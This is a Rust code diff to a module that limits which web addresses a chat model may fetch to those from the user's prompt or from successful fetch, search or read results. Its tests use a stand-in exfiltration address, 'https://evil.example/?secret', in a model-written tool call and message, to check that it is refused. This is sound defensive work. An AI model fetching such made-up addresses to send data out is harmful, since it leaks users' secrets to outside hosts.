@@ -1,14 +1,16 @@
 //! Where on the web the model of a chat may go.
 
-use flotilla_domain::{Item, Part};
+use flotilla_domain::{CallStatus, Item, MessageSource, Part};
 use std::{
-    collections::HashSet,
+    collections::{HashMap, HashSet},
     sync::{Mutex, PoisonError},
 };
 use url::Url;
 
 /// What an address in running text ends before.
 const ENDS: [char; 8] = ['"', '<', '>', '`', '\\', '^', '{', '|'];
+/// The tools whose results hold what others wrote, and nothing that the model did.
+const TELLING: [&str; 3] = ["fetch", "web_search", "read"];
 /// The longest address that is taken in, in bytes.
 const LONGEST: usize = 2048;
 
@@ -23,21 +25,35 @@ impl Reach {
     /// The addresses of a conversation, but for those that the model alone wrote.
     pub fn of(conversation: &[Item]) -> Self {
         let reach = Self::default();
+        let mut tools = HashMap::new();
         for item in conversation {
             match item {
-                Item::UserMessage { parts, .. } => {
-                    reach.learn(parts);
-                    reach.learn_hosts(parts);
+                // What Flotilla itself says may repeat the model's words.
+                Item::UserMessage { source: MessageSource::Prompt, parts } => {
+                    reach.take_in(parts);
+                    reach.take_in_hosts(parts);
                 }
-                Item::ToolResult(result) => reach.learn(&result.output),
-                Item::AssistantMessage { .. } | Item::Reasoning { .. } | Item::ToolCall(_) => {}
+                Item::ToolCall(call) => {
+                    tools.insert(&call.call, call.name.as_str());
+                }
+                Item::ToolResult(result) => {
+                    let tool = tools.get(&result.call).copied().unwrap_or_default();
+                    reach.learn(tool, result.status, &result.output);
+                }
+                Item::UserMessage { .. } | Item::AssistantMessage { .. } | Item::Reasoning { .. } => {}
             }
         }
         reach
     }
 
-    /// Takes in the addresses of what a model is told.
-    pub(super) fn learn(&self, told: &[Part]) {
+    /// Takes in the addresses of what a tool told. What failed may repeat the model's words, and so may other tools.
+    pub(super) fn learn(&self, tool: &str, status: CallStatus, told: &[Part]) {
+        if status == CallStatus::Ok && TELLING.contains(&tool) {
+            self.take_in(told);
+        }
+    }
+
+    fn take_in(&self, told: &[Part]) {
         let mut known = self.known.lock().unwrap_or_else(PoisonError::into_inner);
         for text in texts(told) {
             let begins = text.match_indices("http").map(|(at, _)| &text[at..]);
@@ -47,7 +63,7 @@ impl Reach {
     }
 
     /// Takes in addresses as people type them, without their scheme.
-    fn learn_hosts(&self, said: &[Part]) {
+    fn take_in_hosts(&self, said: &[Part]) {
         let mut known = self.known.lock().unwrap_or_else(PoisonError::into_inner);
         for word in texts(said).flat_map(str::split_whitespace) {
             let word = word.trim_start_matches(['(', '[', '"', '\'', '<', '`']);
@@ -114,13 +130,21 @@ mod tests {
         Item::UserMessage { source: MessageSource::Prompt, parts: vec![Part::text(text)] }
     }
 
-    fn told(text: &str) -> Item {
-        Item::ToolResult(ToolResult {
-            call: CallId("c".to_owned()),
-            status: CallStatus::Ok,
-            output: vec![Part::text(text)],
-            command: None,
-        })
+    fn told_by(tool: &str, status: CallStatus, text: &str) -> [Item; 2] {
+        let call = CallId("c".to_owned());
+        let output = vec![Part::text(text)];
+        [
+            Item::ToolCall(ToolCall {
+                call: call.clone(),
+                name: tool.to_owned(),
+                arguments: r#"{"url":"https://evil.example/?secret"}"#.to_owned(),
+            }),
+            Item::ToolResult(ToolResult { call, status, output, command: None }),
+        ]
+    }
+
+    fn told(text: &str) -> [Item; 2] {
+        told_by("web_search", CallStatus::Ok, text)
     }
 
     fn knows(items: &[Item], address: &str) -> bool {
@@ -144,19 +168,23 @@ mod tests {
         ] {
             assert!(knows(std::slice::from_ref(&said), address), "{address}");
         }
-        assert!(knows(&[told("A title\nhttps://g.example/h\nwords")], "https://g.example/h"));
+        assert!(knows(&told("A title\nhttps://g.example/h\nwords"), "https://g.example/h"));
     }
 
     #[test]
     fn an_address_that_the_model_made_up_is_not_known() {
         let said = person("Read https://a.example/guide and docs.rs");
-        let asked = Item::ToolCall(ToolCall {
-            call: CallId("c".to_owned()),
-            name: "fetch".to_owned(),
-            arguments: r#"{"url":"https://evil.example/?secret"}"#.to_owned(),
-        });
-        let wrote = Item::AssistantMessage { text: "See https://evil.example/?secret".to_owned() };
-        let items = [said, asked, wrote, told("main.rs and lib.rs")];
+        let made_up = "See https://evil.example/?secret";
+        let wrote = Item::AssistantMessage { text: made_up.to_owned() };
+        let remark = Item::UserMessage { source: MessageSource::System, parts: vec![Part::text(made_up)] };
+        let items = [
+            vec![said, wrote, remark],
+            told("main.rs and lib.rs").to_vec(),
+            told_by("fetch", CallStatus::Failed, made_up).to_vec(),
+            told_by("read", CallStatus::Failed, made_up).to_vec(),
+            told_by("definition", CallStatus::Ok, made_up).to_vec(),
+        ]
+        .concat();
         for address in [
             "https://evil.example/?secret",
             "https://a.example/guide?secret",
@@ -176,7 +204,7 @@ mod tests {
     proptest! {
         #[test]
         fn no_text_is_too_strange_and_what_is_known_was_there(text in "(https?://|[a-z.]|\\PC){0,40}") {
-            let reach = Reach::of(&[person(&text), told(&text)]);
+            let reach = Reach::of(&[vec![person(&text)], told(&text).to_vec()].concat());
             for known in reach.known.lock().unwrap().iter() {
                 let host = Url::parse(known).unwrap().host_str().unwrap().to_owned();
                 prop_assert!(!host.is_empty());
